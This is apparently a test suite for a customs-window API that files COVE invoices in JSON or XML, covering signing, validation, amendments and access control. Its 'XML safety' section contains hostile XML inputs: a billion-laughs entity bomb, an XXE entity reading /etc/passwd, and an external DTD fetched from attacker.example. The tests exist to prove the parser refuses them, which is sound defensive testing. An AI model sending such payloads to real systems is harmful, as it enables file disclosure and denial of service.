import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { verifyAudit } from '../src/audit/log.ts';
import { findCoveForCustoms } from '../src/documents/cove-queries.ts';
import { ACK_TYP } from '../src/http/signed-route.ts';
import { signPayload } from '../src/pki/index.ts';
import { openJws } from '../src/pki/window-key.ts';
import { startTestWindow, traderProfile, type Person, type TestWindow } from './support/window.ts';

let w: TestWindow;
let rep: Person;
let trader: { rfc: string; token: string };
let consultant: Person & { token: string };

before(async () => {
  w = await startTestWindow();
  rep = await w.person({ name: 'Ana Importadora' });
  trader = await w.registerTrader(rep);
  const c = await w.person({ name: 'Carla Consultora' });
  consultant = { ...c, token: await w.login(c) };
});
after(() => w.close());

const NUMBER = /^COVE[0-9A-HJKMNP-TV-Z]{9}$/;
const XML = { 'content-type': 'application/xml; charset=utf-8' };

/** An import invoice from a US supplier to the trader, consistent in every total. */
function coveJson(overrides: Record<string, unknown> = {}) {
  return {
    operationType: 'import',
    invoiceNumber: 'INV-2026-0042',
    invoiceDate: '2026-10-15',
    certificateOfOrigin: true,
    authorizedExporterNumber: 'AE-US-7781',
    invoiceTotal: 2250.5,
    issuer: {
      taxId: '12-3456789',
      name: 'Acme Tools & Sons Inc.',
      address: {
        street: 'Main St',
        exteriorNumber: '1200',
        city: 'Laredo',
        state: 'TX',
        postalCode: '78040',
        country: 'US',
      },
    },
    recipient: {
      taxId: trader.rfc,
      name: `Comercializadora ${trader.rfc} S.A. de C.V.`,
      address: traderProfile(trader.rfc).taxAddress,
    },
    goods: [
      {
        description: 'Taladro inalámbrico',
        quantity: 10,
        unit: 'C62',
        currency: 'USD',
        unitValue: 150.05,
        total: 1500.5,
        usdValue: 1500.5,
        specifics: [
          { brand: 'Acme', model: 'D-20', serialNumber: 'SN-001' },
          { brand: 'Acme', model: 'D-20', serialNumber: 'SN-002' },
        ],
      },
      {
        description: 'Brocas <kit> de 12 piezas',
        quantity: 3,
        unit: 'C62',
        currency: 'USD',
        unitValue: 250,
        total: 750,
        usdValue: 750,
      },
    ],
    consultRfcs: [consultant.rfc],
    ...overrides,
  };
}

/** The same invoice as a broker's software would send it: VUCEM-like names, entities, CDATA, a namespace, a comment. */
function coveXml(opts: { extra?: string; quantity?: string } = {}) {
  const a = traderProfile(trader.rfc).taxAddress;
  return `<?xml version="1.0" encoding="UTF-8"?>
<v:comprobante xmlns:v="urn:ventanilla:cove">
  <!-- exported by the broker's system -->
  <v:tipoOperacion>IMPORTACION</v:tipoOperacion>
  <v:numeroFacturaOriginal>INV-2026-0042</v:numeroFacturaOriginal>
  <v:fechaExpedicion>2026-10-15</v:fechaExpedicion>
  <v:certificadoOrigen>1</v:certificadoOrigen>
  <v:numeroExportadorAutorizado>AE-US-7781</v:numeroExportadorAutorizado>
  <v:valorTotalFactura>2250.50</v:valorTotalFactura>
  ${opts.extra ?? ''}
  <v:emisor>
    <v:identificacion>12-3456789</v:identificacion>
    <v:nombre>Acme Tools &amp; Sons Inc.</v:nombre>
    <v:domicilio><v:calle>Main St</v:calle><v:numeroExterior>1200</v:numeroExterior>\
<v:numeroInterior></v:numeroInterior>
      <v:localidad>Laredo</v:localidad><v:entidadFederativa>TX</v:entidadFederativa>\
<v:codigoPostal>78040</v:codigoPostal><v:pais>US</v:pais></v:domicilio>
  </v:emisor>
  <v:destinatario>
    <v:identificacion>${trader.rfc.toLowerCase()}</v:identificacion>
    <v:nombre>Comercializadora ${trader.rfc} S.A. de C.V.</v:nombre>
    <v:domicilio><v:calle>${a.street}</v:calle><v:numeroExterior>${a.exteriorNumber}</v:numeroExterior>\
<v:colonia>${a.neighbourhood}</v:colonia>
      <v:municipio>${a.municipality}</v:municipio><v:entidadFederativa>${a.state}</v:entidadFederativa>\
<v:codigoPostal>${a.postalCode}</v:codigoPostal><v:pais>MX</v:pais></v:domicilio>
  </v:destinatario>
  <v:mercancias>
    <v:mercancia>
      <v:descripcionGenerica>Taladro inal&#225;mbrico</v:descripcionGenerica>
      <v:cantidad>${opts.quantity ?? '10'}</v:cantidad><v:claveUnidadMedida>C62</v:claveUnidadMedida>\
<v:tipoMoneda>USD</v:tipoMoneda>
      <v:valorUnitario>150.05</v:valorUnitario><v:valorTotal>1500.50</v:valorTotal>\
<v:valorDolares>1500.5</v:valorDolares>
      <v:descripcionesEspecificas>
        <v:descripcionEspecifica><v:marca>Acme</v:marca><v:modelo>D-20</v:modelo>\
<v:numeroSerie>SN-001</v:numeroSerie></v:descripcionEspecifica>
        <v:descripcionEspecifica><v:marca>Acme</v:marca><v:modelo>D-20</v:modelo>\
<v:numeroSerie>SN-002</v:numeroSerie></v:descripcionEspecifica>
      </v:descripcionesEspecificas>
    </v:mercancia>
    <v:mercancia>
      <v:descripcionGenerica><![CDATA[Brocas <kit> de 12 piezas]]></v:descripcionGenerica>
      <v:cantidad>3</v:cantidad><v:claveUnidadMedida>C62</v:claveUnidadMedida><v:tipoMoneda>USD</v:tipoMoneda>
      <v:valorUnitario>250</v:valorUnitario><v:valorTotal>750</v:valorTotal><v:valorDolares>750.00</v:valorDolares>
    </v:mercancia>
  </v:mercancias>
  <v:rfcsConsulta><v:rfcConsulta>${consultant.rfc.toLowerCase()}</v:rfcConsulta></v:rfcsConsulta>
</v:comprobante>`;
}

/** Signing payload from an XML body, then the signed JSON submit, as a broker's software would do it. */
async function signedXml(token: string, signer: Person, url: string, xml: string) {
  const issued = await w.call('POST', `${url}/signing-payload`, { token, body: xml, headers: XML });
  if (issued.status !== 201) return issued;
  return w.call('POST', url, {
    token,
    body: { challengeId: issued.body.challengeId, ...signPayload(issued.body.payload, signer.signer) },
  });
}

async function fileCove(
  data: unknown = coveJson(),
  as: { token: string; person: Person } = { token: trader.token, person: rep },
) {
  const res = await w.signed(as.token, as.person, 'POST', '/api/v1/coves', data);
  assert.equal(res.status, 201, JSON.stringify(res.body));
  return res.body.data;
}

const counts = () =>
  w.ctx.db.one(`select (select count(*)::int from challenges) as challenges, (select count(*)::int from coves) as coves,
  (select count(*)::int from signatures) as signatures, (select count(*)::int from audit_events) as audit`);

function assertProblem(
  res: { status: number; body: any; headers: Record<string, unknown> },
  status: number,
  code: string,
) {
  assert.equal(res.status, status, JSON.stringify(res.body));
  assert.equal(res.body.code, code, JSON.stringify(res.body));
  assert.match(String(res.headers['content-type']), /^application\/problem\+json/);
}

describe('filing', () => {
  test('a COVE in JSON and the same COVE in XML give the same payload to sign and the same COVE', async () => {
    const json = await w.call('POST', '/api/v1/coves/signing-payload', { token: trader.token, body: coveJson() });
    const xml = await w.call('POST', '/api/v1/coves/signing-payload', {
      token: trader.token,
      body: coveXml(),
      headers: XML,
    });
    assert.equal(json.status, 201, JSON.stringify(json.body));
    assert.equal(xml.status, 201, JSON.stringify(xml.body));
    assert.deepEqual(xml.body.payload.data, json.body.payload.data);
    assert.equal(json.body.payload.action, 'cove.file');
    assert.equal(json.body.payload.data.issuer.name, 'Acme Tools & Sons Inc.');
    assert.equal(json.body.payload.data.goods[1].description, 'Brocas <kit> de 12 piezas');

    const byJson = await w.call('POST', '/api/v1/coves', {
      token: trader.token,
      body: { challengeId: json.body.challengeId, ...signPayload(json.body.payload, rep.signer) },
    });
    const byXml = await signedXml(trader.token, rep, '/api/v1/coves', coveXml());
    const byTextXml = await w.call('POST', '/api/v1/coves/signing-payload', {
      token: trader.token,
      body: coveXml(),
      headers: { 'content-type': 'text/xml' },
    });
    assert.equal(byJson.status, 201, JSON.stringify(byJson.body));
    assert.equal(byXml.status, 201, JSON.stringify(byXml.body));
    assert.equal(byTextXml.status, 201, JSON.stringify(byTextXml.body));
    const [a, b] = [byJson.body.data, byXml.body.data];
    assert.deepEqual(b.content, a.content);
    assert.deepEqual(a.content, json.body.payload.data, 'what is stored is exactly what was signed');
    for (const c of [a, b]) {
      assert.match(c.number, NUMBER);
      assert.equal(c.rootNumber, c.number);
      assert.equal(c.version, 1);
      assert.equal(c.amends, null);
      assert.equal(c.trader, trader.rfc);
      assert.equal(c.filedBy, rep.rfc);
      assert.equal(c.filedAs, 'legal_representative');
    }
    assert.notEqual(a.number, b.number);
    assert.deepEqual(a.content.consultRfcs, [consultant.rfc]);

    // The signature is kept as evidence, the audit event points at it, and the acknowledgement is sealed.
    const signature = await w.ctx.db.one('select action, signer_rfc, payload from signatures where id = $1', [
      a.signatureId,
    ]);
    assert.equal(signature.action, 'cove.file');
    assert.equal(signature.signer_rfc, rep.rfc);
    assert.deepEqual(signature.payload.data, a.content);
    const event = await w.ctx.db.one(
      "select type, signature_id, actor_rfc from audit_events where object_type = 'cove' and object_id = $1",
      [a.number],
    );
    assert.deepEqual(event, { type: 'cove.filed', signature_id: a.signatureId, actor_rfc: rep.rfc });
    const keys = (await w.call('GET', '/.well-known/ventanilla-keys.json')).body;
    assert.deepEqual(await openJws(byJson.body.seal, keys, { typ: ACK_TYP }), byJson.body.acknowledgement);
    assert.deepEqual(byJson.body.acknowledgement.object, { type: 'cove', id: a.number });
    assert.equal((await verifyAudit(w.ctx.db)).ok, true);
  });

  test('a signed COVE is filed once: the same signature again answers the same (replayed), files nothing', async () => {
    const issued = await w.call('POST', '/api/v1/coves/signing-payload', { token: trader.token, body: coveJson() });
    const body = { challengeId: issued.body.challengeId, ...signPayload(issued.body.payload, rep.signer) };
    const first = await w.call('POST', '/api/v1/coves', { token: trader.token, body });
    assert.equal(first.status, 201);
    const before = await counts();
    const again = await w.call('POST', '/api/v1/coves', { token: trader.token, body });
    assert.equal(again.status, 200);
    assert.deepEqual(again.body, { ...first.body, replayed: true });
    assert.deepEqual(await counts(), before);
  });

  test('numbers are COVE + 9 Crockford base32 characters, unique and not sequential', async () => {
    const numbers: string[] = [];
    for (let i = 0; i < 5; i++) numbers.push((await fileCove()).number);
    for (const n of numbers) assert.match(n, NUMBER);
    assert.equal(new Set(numbers).size, numbers.length);
    const value = (n: string) =>
      [...n.slice(4)].reduce((v, ch) => v * 32n + BigInt('0123456789ABCDEFGHJKMNPQRSTVWXYZ'.indexOf(ch)), 0n);
    for (let i = 1; i < numbers.length; i++) {
      const gap = value(numbers[i]!) - value(numbers[i - 1]!);
      assert.ok(gap > 1000n || gap < -1000n, `${numbers[i - 1]} then ${numbers[i]} look sequential`);
    }
  });
});

describe('XML safety', () => {
  const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<comprobante><numeroFacturaOriginal>&lol9;</numeroFacturaOriginal></comprobante>`;
  const XXE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE comprobante [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<comprobante><tipoOperacion>IMPORTACION</tipoOperacion>\
<numeroFacturaOriginal>&xxe;</numeroFacturaOriginal></comprobante>`;
  const DOCTYPE_ONLY =
    '<?xml version="1.0"?>\n<!DOCTYPE comprobante>\n' +
    '<comprobante><tipoOperacion>IMPORTACION</tipoOperacion></comprobante>';
  const PARAMETER_ENTITY =
    '<!DOCTYPE c [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><comprobante/>';
  const LOWERCASE = '<!doctype comprobante><comprobante/>';
  const DECLARATION_INSIDE = '<comprobante><!ELEMENT comprobante ANY></comprobante>';

  test('billion laughs, XXE, a bare DOCTYPE and other declarations are refused with nothing written', async () => {
    const before = await counts();
    for (const [name, xml] of Object.entries({
      BILLION_LAUGHS,
      XXE,
      DOCTYPE_ONLY,
      PARAMETER_ENTITY,
      LOWERCASE,
      DECLARATION_INSIDE,
    })) {
      for (const url of ['/api/v1/coves/signing-payload', '/api/v1/coves/COVE000000000/amendments/signing-payload']) {
        const res = await w.call('POST', url, { token: trader.token, body: xml, headers: XML });
        assertProblem(res, 400, 'cove.xml_forbidden_construct');
        assert.doesNotMatch(JSON.stringify(res.body), /root:/, `${name}: nothing of /etc/passwd`);
      }
    }
    assert.deepEqual(await counts(), before);
  });

  test('malformed, mis-shaped, too deep or too large XML is refused with its own code', async () => {
    const before = await counts();
    const refused = async (xml: string, status: number, code: string) =>
      assertProblem(
        await w.call('POST', '/api/v1/coves/signing-payload', { token: trader.token, body: xml, headers: XML }),
        status,
        code,
      );
    await refused('<comprobante><tipoOperacion>IMPORTACION</comprobante>', 400, 'cove.xml_malformed');
    await refused(
      '<comprobante><numeroFacturaOriginal>A & B</numeroFacturaOriginal></comprobante>',
      400,
      'cove.xml_malformed',
    );
    await refused(
      '<comprobante><numeroFacturaOriginal>&nbsp;</numeroFacturaOriginal></comprobante>',
      400,
      'cove.xml_malformed',
    );
    await refused('', 400, 'cove.xml_malformed');
    await refused('<factura><tipoOperacion>IMPORTACION</tipoOperacion></factura>', 400, 'cove.xml_invalid_structure');
    await refused(coveXml({ extra: '<v:descuento>10</v:descuento>' }), 400, 'cove.xml_invalid_structure');
    await refused(
      coveXml({ extra: '<v:numeroFacturaOriginal>OTRA</v:numeroFacturaOriginal>' }),
      400,
      'cove.xml_invalid_structure',
    );
    await refused(coveXml({ quantity: 'diez' }), 400, 'cove.xml_invalid_value');
    await refused(`<comprobante>${'<a>'.repeat(20)}${'</a>'.repeat(20)}</comprobante>`, 400, 'cove.xml_too_complex');
    await refused(
      `<comprobante><observaciones>${'<b/>'.repeat(30_000)}</observaciones></comprobante>`,
      400,
      'cove.xml_too_complex',
    );
    await refused(
      `<comprobante><observaciones>${'x'.repeat(1024 * 1024)}</observaciones></comprobante>`,
      413,
      'request.too_large',
    );
    await refused('<?xml version="1.0" encoding="ISO-8859-1"?><comprobante/>', 400, 'cove.xml_encoding_unsupported');
    // Well-formed and well-shaped, but incomplete: the same schema as JSON answers.
    await refused('<comprobante><tipoOperacion>IMPORTACION</tipoOperacion></comprobante>', 400, 'request.invalid');
    assert.deepEqual(await counts(), before);
  });

  test('XML is accepted by the COVE routes only; JSON keeps working everywhere', async () => {
    const res = await w.call('POST', '/api/v1/operations', { token: trader.token, body: '<operation/>', headers: XML });
    assertProblem(res, 415, 'request.unsupported_media_type');
    const draft = await w.call('POST', '/api/v1/operations', {
      token: trader.token,
      body: {
        traderRfc: trader.rfc,
        flow: 'import',
        data: {
          goods: [
            {
              hsCode: '847130',
              description: 'Laptops',
              quantity: 1,
              unit: 'PCE',
              value: 100,
              currency: 'USD',
              originCountry: 'US',
              destinationCountry: 'MX',
              customsOffice: 'ANAM-TAMPS-NLD',
            },
          ],
        },
      },
    });
    assert.equal(draft.status, 201, JSON.stringify(draft.body));
    const openapi = (await w.call('GET', '/openapi.json')).body;
    const op = openapi.paths['/api/v1/coves/signing-payload'].post;
    assert.ok(op.requestBody.content['application/xml'] && op.requestBody.content['application/json']);
    assert.match(op.description, /<comprobante>/);
  });
});

describe('validation', () => {
  test('inconsistent totals, bad currency or country, and bad RFCs are refused with nothing written', async () => {
    const before = await counts();
    const base = coveJson();
    const line = base.goods[1]!;
    const refused = async (data: unknown, status: number, code: string) =>
      assertProblem(
        await w.call('POST', '/api/v1/coves/signing-payload', { token: trader.token, body: data }),
        status,
        code,
      );
    await refused(
      coveJson({ goods: [base.goods[0], { ...line, total: 751 }], invoiceTotal: 2251.5 }),
      400,
      'cove.line_total_mismatch',
    );
    await refused(coveJson({ invoiceTotal: 2300 }), 400, 'cove.invoice_total_mismatch');
    await refused(
      coveJson({ goods: [base.goods[0], { ...line, currency: 'EUR', usdValue: 800 }] }),
      400,
      'cove.invoice_total_mixed_currencies',
    );
    await refused(coveJson({ goods: [base.goods[0], { ...line, usdValue: 700 }] }), 400, 'cove.usd_value_mismatch');
    await refused(
      coveJson({ goods: [base.goods[0], { ...line, currency: 'ABC' }], invoiceTotal: undefined }),
      400,
      'operation.currency_invalid',
    );
    await refused(coveJson({ goods: [base.goods[0], { ...line, usdValue: 0 }] }), 400, 'request.invalid');
    await refused(
      coveJson({ issuer: { ...base.issuer, address: { ...base.issuer.address, country: 'QQ' } } }),
      400,
      'operation.country_invalid',
    );
    const badDigit = trader.rfc.slice(0, -1) + (trader.rfc.endsWith('1') ? '2' : '1');
    await refused(coveJson({ recipient: { ...base.recipient, taxId: badDigit } }), 400, 'registry.rfc_check_digit');
    await refused(coveJson({ recipient: { ...base.recipient, taxId: '12-3456789' } }), 400, 'registry.rfc_invalid');
    await refused(coveJson({ consultRfcs: ['NOTANRFC0000'] }), 400, 'registry.rfc_invalid');
    await refused(
      coveJson({ recipient: { ...base.recipient, address: { ...base.recipient.address, country: 'US' } } }),
      400,
      'cove.trader_not_in_mexico',
    );
    await refused(
      coveJson({ recipient: { ...base.recipient, address: { ...base.recipient.address, postalCode: undefined } } }),
      400,
      'cove.address_incomplete',
    );
    await refused(coveJson({ certificateOfOrigin: false }), 400, 'cove.authorized_exporter_without_certificate');
    await refused(coveJson({ brokerPatents: ['0001'] }), 400, 'cove.broker_patent_unknown');
    await refused(coveJson({ invoiceDate: '2999-01-01' }), 400, 'cove.invoice_date_future');
    await refused(coveJson({ invoiceDate: '2026-02-30' }), 400, 'request.invalid');
    await refused(coveJson({ discount: 5 }), 400, 'request.invalid');
    assert.deepEqual(await counts(), before);
  });

  test('a foreign party has a foreign tax id; in an export the exporter issues the invoice', async () => {
    const base = coveJson();
    const exported = await fileCove(
      coveJson({
        operationType: 'export',
        issuer: base.recipient,
        invoiceTotal: undefined,
        authorizedExporterNumber: undefined,
        certificateOfOrigin: false,
        recipient: {
          taxId: 'DE 123456789',
          name: 'Werkzeug GmbH',
          address: { street: 'Hauptstraße', exteriorNumber: '5', city: 'Köln', postalCode: '50667', country: 'DE' },
        },
      }),
    );
    assert.equal(exported.trader, trader.rfc);
    assert.equal(exported.operationType, 'export');
    assert.equal(exported.content.recipient.taxId, 'DE 123456789');
  });
});

describe('amendments', () => {
  test('an amendment is a signed new version linked to the first; the original stays readable', async () => {
    const original = await fileCove();
    const corrected = coveJson({
      invoiceTotal: 2500.5,
      goods: [coveJson().goods[0], { ...coveJson().goods[1], quantity: 4, total: 1000, usdValue: 1000 }],
    });
    const first = await w.signed(trader.token, rep, 'POST', `/api/v1/coves/${original.number}/amendments`, {
      ...corrected,
      reason: 'Se recibieron 4 juegos de brocas, no 3.',
    });
    assert.equal(first.status, 201, JSON.stringify(first.body));
    const v2 = first.body.data;
    assert.match(v2.number, NUMBER);
    assert.notEqual(v2.number, original.number);
    assert.deepEqual([v2.version, v2.amends, v2.rootNumber], [2, original.number, original.number]);
    assert.equal(v2.amendmentReason, 'Se recibieron 4 juegos de brocas, no 3.');

    // Only the latest version can be amended: the original is stale now.
    assertProblem(
      await w.call('POST', `/api/v1/coves/${original.number}/amendments/signing-payload`, {
        token: trader.token,
        body: { ...corrected, reason: 'otra' },
      }),
      409,
      'cove.amendment_stale',
    );
    assertProblem(
      await w.call('POST', `/api/v1/coves/${v2.number}/amendments/signing-payload`, {
        token: trader.token,
        body: { ...corrected, reason: 'igual' },
      }),
      422,
      'cove.amendment_unchanged',
    );
    assertProblem(
      await w.call('POST', `/api/v1/coves/${v2.number}/amendments/signing-payload`, {
        token: trader.token,
        body: {
          ...corrected,
          operationType: 'export',
          issuer: corrected.recipient,
          recipient: corrected.issuer,
          reason: 'x',
        },
      }),
      400,
      'cove.amendment_changes_operation_type',
    );

    // A second amendment, in XML.
    const third = await signedXml(
      trader.token,
      rep,
      `/api/v1/coves/${v2.number}/amendments`,
      coveXml({
        extra:
          '<v:motivoAdenda>Factura corregida por el proveedor</v:motivoAdenda>' +
          '<v:observaciones>Sustituye a la anterior</v:observaciones>',
      }),
    );
    assert.equal(third.status, 201, JSON.stringify(third.body));
    const v3 = third.body.data;
    assert.deepEqual([v3.version, v3.amends, v3.rootNumber], [3, v2.number, original.number]);
    assert.equal(v3.content.notes, 'Sustituye a la anterior');

    const seen = await w.call('GET', `/api/v1/coves/${original.number}`, { token: trader.token });
    assert.equal(seen.status, 200);
    assert.deepEqual(seen.body.requested, original, 'the original is unchanged');
    assert.equal(seen.body.latest.number, v3.number);
    assert.deepEqual(
      seen.body.chain.map((c: any) => [c.number, c.version, c.amends]),
      [
        [original.number, 1, null],
        [v2.number, 2, original.number],
        [v3.number, 3, v2.number],
      ],
    );
    const fromLatest = await w.call('GET', `/api/v1/coves/${v3.number}`, { token: trader.token });
    assert.deepEqual(fromLatest.body.chain, seen.body.chain);
    assert.deepEqual(fromLatest.body.requested, fromLatest.body.latest);

    const events = await w.ctx.db.query(
      "select type, object_id, signature_id from audit_events where type = 'cove.amended' and object_id = " +
        'any($1::text[]) order by seq',
      [[v2.number, v3.number]],
    );
    assert.deepEqual(
      events.map((e: any) => [e.object_id, e.signature_id]),
      [
        [v2.number, v2.signatureId],
        [v3.number, v3.signatureId],
      ],
    );
    const signatures = await w.ctx.db.query('select action from signatures where id = any($1::uuid[])', [
      [v2.signatureId, v3.signatureId],
    ]);
    assert.deepEqual(
      signatures.map((s: any) => s.action),
      ['cove.amend', 'cove.amend'],
    );

    const forCustoms = await findCoveForCustoms(w.ctx.db, original.number);
    assert.equal(forCustoms?.current, false);
    assert.equal(forCustoms?.latestNumber, v3.number);
    const latest = await findCoveForCustoms(w.ctx.db, v3.number.toLowerCase());
    assert.equal(latest?.current, true);
    assert.equal(latest?.traderRfc, trader.rfc);
    assert.deepEqual(latest?.consultRfcs, [consultant.rfc]);
  });

  test('two amendments of the same version: one is filed, the other is told to amend the latest', async () => {
    const original = await fileCove();
    const issue = (notes: string) =>
      w.call('POST', `/api/v1/coves/${original.number}/amendments/signing-payload`, {
        token: trader.token,
        body: { ...coveJson({ notes }), reason: notes },
      });
    const issued = [await issue('primera'), await issue('segunda')];
    const before = await counts();
    const results = await Promise.all(
      issued.map((i) =>
        w.call('POST', `/api/v1/coves/${original.number}/amendments`, {
          token: trader.token,
          body: { challengeId: i.body.challengeId, ...signPayload(i.body.payload, rep.signer) },
        }),
      ),
    );
    assert.deepEqual(results.map((r) => r.status).sort(), [201, 409], JSON.stringify(results.map((r) => r.body)));
    assert.equal(results.find((r) => r.status === 409)!.body.code, 'cove.amendment_stale');
    const after = await counts();
    assert.deepEqual(
      [after.coves - before.coves, after.signatures - before.signatures],
      [1, 1],
      'the refused one wrote nothing',
    );
    const chain = (await w.call('GET', `/api/v1/coves/${original.number}`, { token: trader.token })).body.chain;
    assert.equal(chain.length, 2);
  });
});

describe('access', () => {
  let brokerPerson: Person;
  let broker: { patent: string; token: string };
  let namedBrokerPerson: Person;
  let namedBroker: { patent: string; token: string };
  before(async () => {
    brokerPerson = await w.person({ name: 'Bruno Agente' });
    broker = await w.registerBroker(brokerPerson);
    const granted = await w.signed(trader.token, rep, 'POST', `/api/v1/traders/${trader.rfc}/delegations`, {
      brokerPatent: broker.patent,
    });
    assert.equal(granted.status, 201, JSON.stringify(granted.body));
    namedBrokerPerson = await w.person({ name: 'Nora Agente' });
    namedBroker = await w.registerBroker(namedBrokerPerson);
  });

  test('a delegated broker files for the trader; who may see it, and who is told it does not exist', async () => {
    const cove = await fileCove(coveJson({ brokerPatents: [namedBroker.patent] }), {
      token: broker.token,
      person: brokerPerson,
    });
    assert.equal(cove.filedAs, 'broker');
    assert.equal(cove.filedBy, brokerPerson.rfc);
    assert.deepEqual(cove.content.brokerPatents, [namedBroker.patent, broker.patent], 'the filing broker is listed');
    const get = async (token: string) => w.call('GET', `/api/v1/coves/${cove.number}`, { token });

    assert.equal((await get(trader.token)).status, 200, 'the trader');
    assert.equal((await get(broker.token)).status, 200, 'the delegated broker that filed it');
    assert.equal((await get(consultant.token)).status, 200, 'an RFC named to consult it');
    assert.equal((await get(namedBroker.token)).status, 200, 'a broker whose patent is named');
    const customs = await w.officer('ANAM', ['customs_officer'], 'ANAM-TAMPS-NLD');
    assert.equal((await get(customs.token)).status, 200, 'a customs officer');

    const stranger = await w.person();
    const strangerToken = await w.login(stranger);
    assertProblem(await get(strangerToken), 404, 'cove.not_found');
    const reviewer = await w.officer('COFEPRIS', ['reviewer']);
    assertProblem(await get(reviewer.token), 404, 'cove.not_found');
    assertProblem(await w.call('GET', '/api/v1/coves/COVE000000000', { token: trader.token }), 404, 'cove.not_found');

    // Seeing is not amending; and nobody files for a trader that did not delegate to them.
    const amendment = { ...coveJson({ brokerPatents: [namedBroker.patent] }), notes: 'x', reason: 'y' };
    assertProblem(
      await w.call('POST', `/api/v1/coves/${cove.number}/amendments/signing-payload`, {
        token: consultant.token,
        body: amendment,
      }),
      403,
      'cove.not_your_trader',
    );
    assertProblem(
      await w.call('POST', `/api/v1/coves/${cove.number}/amendments/signing-payload`, {
        token: strangerToken,
        body: amendment,
      }),
      404,
      'cove.not_found',
    );
    assertProblem(
      await w.call('POST', '/api/v1/coves/signing-payload', { token: namedBroker.token, body: coveJson() }),
      403,
      'cove.not_your_trader',
    );
    assertProblem(
      await w.call('POST', '/api/v1/coves/signing-payload', { token: customs.token, body: coveJson() }),
      403,
      'cove.not_your_trader',
    );

    // The delegated broker amends it; the list shows each party the latest version.
    const amended = await w.signed(
      broker.token,
      brokerPerson,
      'POST',
      `/api/v1/coves/${cove.number}/amendments`,
      amendment,
    );
    assert.equal(amended.status, 201, JSON.stringify(amended.body));
    for (const token of [consultant.token, namedBroker.token, broker.token, trader.token]) {
      const mine = await w.call('GET', '/api/v1/coves?mine', { token });
      assert.equal(mine.status, 200, JSON.stringify(mine.body));
      const numbers = mine.body.items.map((c: any) => c.number);
      assert.ok(numbers.includes(amended.body.data.number) && !numbers.includes(cove.number));
    }
    assert.deepEqual((await w.call('GET', '/api/v1/coves', { token: strangerToken })).body.items, []);

    const forCustoms = await findCoveForCustoms(w.ctx.db, amended.body.data.number);
    assert.deepEqual(
      forCustoms && {
        traderRfc: forCustoms.traderRfc,
        operationType: forCustoms.operationType,
        brokerPatents: forCustoms.brokerPatents,
        brokerRfcs: [...forCustoms.brokerRfcs].sort(),
        filedByRfc: forCustoms.filedByRfc,
        usdValue: forCustoms.usdValue,
      },
      {
        traderRfc: trader.rfc,
        operationType: 'import',
        brokerPatents: [namedBroker.patent, broker.patent],
        brokerRfcs: [brokerPerson.rfc, namedBrokerPerson.rfc].sort(),
        filedByRfc: brokerPerson.rfc,
        usdValue: 2250.5,
      },
    );
    assert.equal(await findCoveForCustoms(w.ctx.db, 'COVE000000000'), null);
    assert.equal(await findCoveForCustoms(w.ctx.db, 'not a number'), null);
  });
});
